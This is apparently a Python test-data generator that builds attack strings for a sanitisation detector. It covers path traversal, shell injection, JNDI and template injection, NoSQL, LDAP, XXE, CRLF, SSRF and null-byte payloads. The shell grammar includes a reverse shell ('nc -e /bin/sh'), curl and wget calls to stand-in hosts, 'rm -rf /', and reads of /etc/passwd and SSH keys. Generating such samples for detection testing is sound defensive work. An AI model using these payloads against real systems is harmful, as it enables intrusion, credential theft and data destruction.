"""Attacks of the other families, by small grammars."""

from __future__ import annotations

from collections.abc import Callable, Iterator

from plugins.sanitise.detection import Kind

from .samples import Dice, Sample


def _climb(dice: Dice) -> str:
    step = dice.choice(("../", "..\\", "....//", "..//", "..;/"))
    return dice.maybe(dice.choice(("/", "images/", "./"))) + step * dice.randint(2, 9) + dice.choice(("etc/passwd", "etc/shadow", "windows/win.ini", "proc/self/environ", dice.word() + ".conf"))  # fmt: skip


def _file(dice: Dice) -> str:
    return dice.choice(("/etc/passwd", "file:///etc/hosts", "C:\\Windows\\win.ini", "/proc/self/environ", "php://filter/convert.base64-encode/resource=" + dice.word(), "/root/.ssh/id_rsa", "/var/log/apache2/access.log"))  # fmt: skip


def _shell(dice: Dice) -> str:
    command = dice.choice(("id", "whoami", "cat /etc/passwd", f"ping -c 3 {dice.word()}.example", f"curl http://{dice.word()}.example/x", "uname -a", f"wget http://{dice.word()}.example", f"nc -e /bin/sh 10.0.0.1 {dice.number()}", f"sleep {dice.number(20)}", "ls -la /", "rm -rf /"))  # fmt: skip
    wrap = dice.choice(
        ("; {}", "| {}", "&& {}", "|| {}", "`{}`", "$({})", "\n{}", ";{};", "& {} &", "' ; {} #", '" | {} "', "|{}")
    )
    return dice.maybe(dice.word()) + wrap.format(command)


def _lookup(dice: Dice) -> str:
    scheme = dice.choice(("ldap", "rmi", "dns", "ldaps"))
    jndi = dice.choice(
        ("jndi", "${lower:j}ndi", "${::-j}${::-n}${::-d}${::-i}", "j${env:" + dice.word() + ":-n}di", "${upper:j}NDI")
    )
    return "${" + f"{jndi}:{scheme}://{dice.word()}.example/{dice.word()}" + "}"


def _template(dice: Dice) -> str:
    a, b = dice.number(99), dice.number(99)
    inside = dice.choice((f"{a}*{b}", f"'{a}'*{b}", "''.__class__.__mro__", "config.items()", f"request.application.__globals__['{dice.word()}']", "self.__init__.__globals__", "T(java.lang.Runtime).getRuntime()", f"system('{dice.word()}')", "_self.env.getFilter('id')"))  # fmt: skip
    return dice.choice(("{{{{{}}}}}", "${{{}}}", "<%= {} %>", "#{{{}}}", "*{{{}}}", "{{% if {} %}}")).format(inside)


def _code(dice: Dice) -> str:
    return dice.choice((f"<?php system('{dice.word()}'); ?>", "<%= `id` %>", f'<!--#exec cmd="{dice.word()}" -->', "<#assign x=1>", "{php}phpinfo();{/php}"))  # fmt: skip


def _operator(dice: Dice) -> str:
    name = dice.choice(("ne", "gt", "gte", "lt", "where", "regex", "in", "nin", "exists", "or", "expr"))
    return dice.choice(("$" + name, f"{dice.word()}[${name}]", f"{dice.word()}[{dice.word()}][${name}]"))


def _condition(dice: Dice) -> str:
    return dice.choice(
        (
            f"' || '{dice.word()}'=='{dice.word()}",
            '{"$ne": null}',
            '{"$gt": ""}',
            "[$ne]=1",
            f"'; return this.{dice.word()} != '",
            "{$where: 'sleep(100)'}",
        )
    )


def _breaks(dice: Dice) -> str:
    line = dice.choice(("\r\n", "\n", "\r\n ", "\r"))
    header = dice.choice(
        (
            "Set-Cookie: a=b",
            "Location: http://evil.example",
            "X-Injected: 1",
            "Content-Length: 0\r\n\r\nHTTP/1.1 200 OK",
        )
    )
    return dice.word() + line + header


def _address(dice: Dice) -> str:
    last = dice.randint(1, 250)
    forms = ("127.0.0.1", "169.254.169.254", "2130706433", "0x7f000001", "0177.0.0.1", "127.1", "[::1]", "[::ffff:127.0.0.1]", f"10.0.0.{last}", f"192.168.1.{last}", "localhost", "metadata.google.internal", "0", "[fd00::1]", "2852039166", "0xa9.0xfe.0xa9.0xfe")  # fmt: skip
    return f"{dice.choice(('http', 'https', 'gopher', 'ftp'))}://{dice.maybe('a@')}{dice.choice(forms)}{dice.maybe(':' + dice.number())}/{dice.maybe(dice.word())}"


def _filter(dice: Dice) -> str:
    word = dice.word()
    return dice.choice(
        ("*)(uid=*))(|(uid=*", f"{word})(&)", f"*)({word}=*", "*)(|(objectclass=*)", f"{word})(|(password=*))")
    )


def _entity(dice: Dice) -> str:
    word = dice.word()
    return f'<?xml version="1.0"?><!DOCTYPE {word} [<!ENTITY {dice.maybe("% ")}{word} SYSTEM "{dice.choice(("file:///etc/passwd", "http://" + word + ".example/x.dtd"))}">]><{word}>&{word};</{word}>'


def _null(dice: Dice) -> str:
    return f"{dice.word()}.{dice.choice(('php', 'jpg', 'txt'))}\x00.{dice.choice(('png', 'pdf'))}"


_FAMILIES: dict[str, tuple[tuple[str, Callable[[Dice], str], Kind], ...]] = {
    "path_traversal": (("climbing", _climb, Kind.VALUE), ("file", _file, Kind.VALUE)),
    "command": (("shell", _shell, Kind.VALUE),),
    "template": (("lookup", _lookup, Kind.VALUE), ("expression", _template, Kind.VALUE), ("code", _code, Kind.VALUE)),
    "nosql": (("key", _operator, Kind.KEY), ("value", _condition, Kind.VALUE)),
    "ldap": (("filter", _filter, Kind.VALUE),),
    "xxe": (("document", _entity, Kind.VALUE),),
    "crlf": (("header", _breaks, Kind.HEADER), ("value", _breaks, Kind.VALUE)),
    "ssrf": (("URL", _address, Kind.URL), ("value", _address, Kind.VALUE)),
    "null_byte": (("value", _null, Kind.VALUE),),
}


def others(dice: Dice, each: int) -> Iterator[Sample]:
    """``each`` of every context of every family."""
    for family, makers in _FAMILIES.items():
        for context, make, kind in makers:
            for _ in range(each):
                yield Sample(make(dice), family, context, kind)
